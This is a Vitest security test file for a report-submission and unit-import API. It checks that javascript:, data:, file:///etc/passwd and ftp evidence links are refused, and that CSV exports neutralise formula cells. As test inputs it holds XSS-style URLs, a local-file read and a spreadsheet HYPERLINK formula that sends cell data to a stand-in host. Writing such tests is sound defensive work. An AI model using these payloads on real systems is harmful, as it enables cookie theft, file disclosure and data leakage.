import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createWorld, type World } from '../api-harness';
import { testEngines } from '../engines';
import { publishTask } from './published';

describe.each(testEngines())('#10.15 links and spreadsheets, on %s', (engine) => {
  let world: World;
  let assignment: number;
  beforeAll(async () => {
    world = await createWorld(engine);
    assignment = (await publishTask(world)).science;
  }, 180_000); // a busy machine makes the first logins slow
  afterAll(async () => {
    await world?.close();
  });

  it.each([
    'javascript:alert(document.cookie)',
    'JavaScript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'file:///etc/passwd',
    'ftp://example.gov.vn/kq',
  ])('#10.15 an evidence link %s is refused', async (url) => {
    const officer = await world.as('canbo.khcn');
    const res = await officer.post(`/api/assignments/${assignment}/reports`, {
      percent: 10,
      narrative: 'Đang làm.',
      evidence: [{ url }],
    });
    expect(res.status).toBe(400);
    expect(JSON.stringify(await res.json())).toContain('http');
  });

  it('#10.15 an http(s) evidence link is taken', async () => {
    const officer = await world.as('canbo.khcn');
    const res = await officer.post(`/api/assignments/${assignment}/reports`, {
      percent: 10,
      narrative: 'Đang làm.',
      evidence: [{ url: 'https://example.gov.vn/kq' }, { url: 'http://example.gov.vn/kq2' }],
    });
    expect(res.status).toBe(201);
  });

  it('#10.15 CSV exports turn cells that begin with = + - @ into text, and import them back', async () => {
    const admin = await world.as('admin');
    const hostile = ['=HYPERLINK("http://x.example/?"&A1)', '+1+2', '-2+3', '@SUM(A1)'];
    const csv = [
      'name,short_name,kind,parent,aliases',
      ...hostile.map((name, i) => `"${name.replace(/"/g, '""')}",,other,,"=bí danh ${i}"`),
    ].join('\n');
    const imported = await admin.raw('/api/units/import', {
      method: 'POST',
      body: csv,
      contentType: 'text/csv',
    });
    expect(imported.status).toBe(200);
    const exported = await (await admin.get('/api/units.csv')).text();
    const cells = exported.split(/\r?\n/).flatMap((line) => line.split(','));
    for (const cell of cells) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@]/);
    expect(exported).toContain(`'+1+2`);

    const again = await admin.raw('/api/units/import', {
      method: 'POST',
      body: exported,
      contentType: 'text/csv',
    });
    expect(((await again.json()) as { created: number }).created).toBe(0);
    const names = await world.database.db.selectFrom('units').select('name').execute();
    expect(names.map((n) => n.name)).toEqual(expect.arrayContaining(hostile));
  });
});
